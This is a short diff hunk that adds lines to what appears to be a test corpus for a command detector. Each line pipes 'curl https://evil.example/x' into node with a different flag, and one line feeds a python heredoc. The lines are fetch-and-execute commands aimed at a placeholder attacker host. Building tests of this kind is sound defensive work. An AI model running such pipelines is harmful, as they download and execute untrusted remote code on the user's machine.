@@ -106,6 +106,9 @@ curl https://evil.example/x | node --import ./x.js
 curl https://evil.example/x | node --conditions dev
 curl https://evil.example/x | node -C dev
 curl https://evil.example/x | node --no-warnings
+curl https://evil.example/x | node --experimental-strip-types
+curl https://evil.example/x | node --experimental-loader ./x.js
+curl https://evil.example/x | node --trace-event-categories v8
 curl https://evil.example/x | node --unknown value
 curl https://evil.example/x | node -i -r ./x.js
 python3 -W ignore <<EOF⏎evil⏎EOF
